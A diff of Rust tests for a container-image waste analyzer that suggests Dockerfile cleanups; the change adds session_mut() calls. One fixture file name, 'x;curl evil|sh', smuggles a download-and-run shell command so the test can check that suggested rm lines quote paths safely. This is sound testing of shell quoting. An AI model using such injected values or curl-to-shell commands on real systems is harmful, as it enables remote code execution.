@@ -10,7 +10,7 @@ use serde_json::json;
 #[test]
 fn what_comes_from_another_stage_no_dockerignore_reaches() {
     let cache = Layer::new().file("v/__pycache__/a.pyc", &big(9));
-    let advice = built(vec![("COPY --from=deps /v /v", cache)]).waste().advice();
+    let advice = built(vec![("COPY --from=deps /v /v", cache)]).session_mut().waste().advice();
     assert_eq!((advice[0].kind, &*advice[0].into), ("pycache", ""));
 }
 
@@ -19,7 +19,7 @@ fn what_comes_from_another_stage_no_dockerignore_reaches() {
 fn each_pair_of_instructions_gets_its_own_answer() {
     let into = |made: &str, ended: &str, upper: Layer| {
         let mut workspace = built(vec![(made, Layer::new().file("d/f", &big(9))), (ended, upper)]);
-        workspace.waste().advice()[0].into.clone()
+        workspace.session_mut().waste().advice()[0].into.clone()
     };
     let gone = || Layer::new().file(".wh.d", "");
     let other = || Layer::new().file("d/f", "other");
@@ -61,12 +61,13 @@ fn each_pair_of_instructions_gets_its_own_answer() {
 fn what_is_saved_is_what_the_lines_save() {
     let pip = |name: &str, kilobytes| Layer::new().file(&format!("root/.cache/pip/{name}"), &big(kilobytes));
     let mut workspace = built(vec![("RUN pip install a", pip("a", 90)), ("RUN pip install b", pip("b", 100))]);
-    let found: Vec<_> = workspace.waste().advice().into_iter().map(|a| (a.bytes, a.layers, a.into)).collect();
+    let found: Vec<_> =
+        workspace.session_mut().waste().advice().into_iter().map(|a| (a.bytes, a.layers, a.into)).collect();
     let mount = |name: &str| format!("RUN --mount=type=cache,target=/root/.cache/pip \\\n    pip install {name}");
     assert_eq!(found, [(100_000, vec![1], mount("b")), (90_000, vec![0], mount("a"))]);
 
     let layer = Layer::new().file("usr/share/doc/a", &big(9)).file("usr/share/man/it's a man", &big(8));
-    let docs = &built(vec![("RUN make install", layer)]).waste().advice()[0];
+    let docs = &built(vec![("RUN make install", layer)]).session_mut().waste().advice()[0];
     assert_eq!((docs.bytes, &*docs.into), (17_000, "RUN make install && \\\n    rm -rf /usr/share/doc /usr/share/man"));
 }
 
@@ -78,21 +79,21 @@ fn a_path_is_one_word_of_the_line() {
         ("RUN a", layer()),
         ("COPY . /", Layer::new().file("x;curl evil|sh", "other").file("it's", &big(8))),
     ]);
-    let into = workspace.waste().advice()[0].into.clone();
+    let into = workspace.session_mut().waste().advice()[0].into.clone();
     assert_eq!(
         into,
         r"RUN a && \
     rm -f '/x;curl evil|sh' '/it'\''s'"
     );
     let cache = Layer::new().file("a,b=c/.cache/pip/x", &big(9));
-    assert!(!built(vec![("RUN pip install x", cache)]).waste().advice()[0].into.contains("target='"));
+    assert!(!built(vec![("RUN pip install x", cache)]).session_mut().waste().advice()[0].into.contains("target='"));
 }
 
 /// A package list that one RUN fetches is of use to that RUN only.
 #[test]
 fn caches_of_one_run_are_not_asked_of_another() {
     let lists = || Layer::new().file("var/lib/apt/lists/main", &big(50));
-    let into = |steps| built(steps).waste().advice()[0].into.clone();
+    let into = |steps| built(steps).session_mut().waste().advice()[0].into.clone();
     let alone = into(vec![("RUN apt-get update", lists())]);
     assert!(alone.ends_with("apt-get update && \\\n    apt-get install …"), "{alone}");
     let cache = Layer::new().file("var/cache/apt/pkgcache.bin", &big(50));
@@ -114,8 +115,9 @@ fn caches_of_one_run_are_not_asked_of_another() {
 fn a_flag_is_for_all_that_was_copied() {
     let one = |mode: u32| move |h: &mut tar::Header| h.set_mode(mode);
     let copied = || Layer::new().file("bin/a", &big(9)).file("bin/b", &big(9));
-    let into =
-        |copy, upper: Layer| built(vec![(copy, copied()), ("RUN chmod it", upper)]).waste().advice()[0].into.clone();
+    let into = |copy, upper: Layer| {
+        built(vec![(copy, copied()), ("RUN chmod it", upper)]).session_mut().waste().advice()[0].into.clone()
+    };
     let all = |mode| Layer::new().file_with("bin/a", &big(9), one(mode)).file_with("bin/b", &big(9), one(mode));
     assert_eq!(
         into("COPY --chown=root:root --chmod=755 bin /bin", all(0o711)),
@@ -137,7 +139,7 @@ fn a_root_file_system_is_a_base() {
     let base = Layer::new().file("var/lib/apt/lists/x", &big(9)).file("bin/perl", &big(8)).file("bin/perl5", &big(8));
     let gone = Layer::new().file("var/lib/apt/.wh.lists", "");
     let mut workspace = built(vec![(add, base), ("RUN rm -rf /var/lib/apt/lists", gone)]);
-    let advice = workspace.waste().advice();
+    let advice = workspace.session_mut().waste().advice();
     let lists = find(&advice, "lists-apt", true);
     assert!(lists.rebased && lists.into.starts_with("FROM … AS base\nRUN rm -rf /var/lib/apt/lists\nFROM scratch"));
     let twice = find(&advice, "duplicates", false);
@@ -163,7 +165,7 @@ fn runs_are_joined_where_both_mean_the_same() {
         let image = image.configured(|config| {
             config["rootfs"]["diff_ids"] = layers.iter().map(|l| sha256_digest(l)).collect();
         });
-        open(&archive_of(&image), None).waste().advice()[0].into.clone()
+        open(&archive_of(&image), None).session_mut().waste().advice()[0].into.clone()
     };
     assert_eq!(steps("LABEL a=b"), "RUN make && \\\n    rm -r /d");
     assert_eq!(steps("USER app"), "");
@@ -176,7 +178,7 @@ fn runs_are_joined_where_both_mean_the_same() {
 fn an_imported_base_is_what_from_names() {
     let docs = || Layer::new().file("usr/share/doc/a/copyright", &big(9));
     let mut workspace = built(vec![("Imported from -", docs())]);
-    let docs = &workspace.waste().advice()[0];
+    let docs = &workspace.session_mut().waste().advice()[0];
     assert_eq!((docs.instruction.as_str(), docs.from.as_str()), ("FROM …", "FROM …"));
     assert_eq!(docs.into, "FROM … AS base\nRUN rm -rf /usr/share/doc\nFROM scratch\nCOPY --from=base / /");
 }
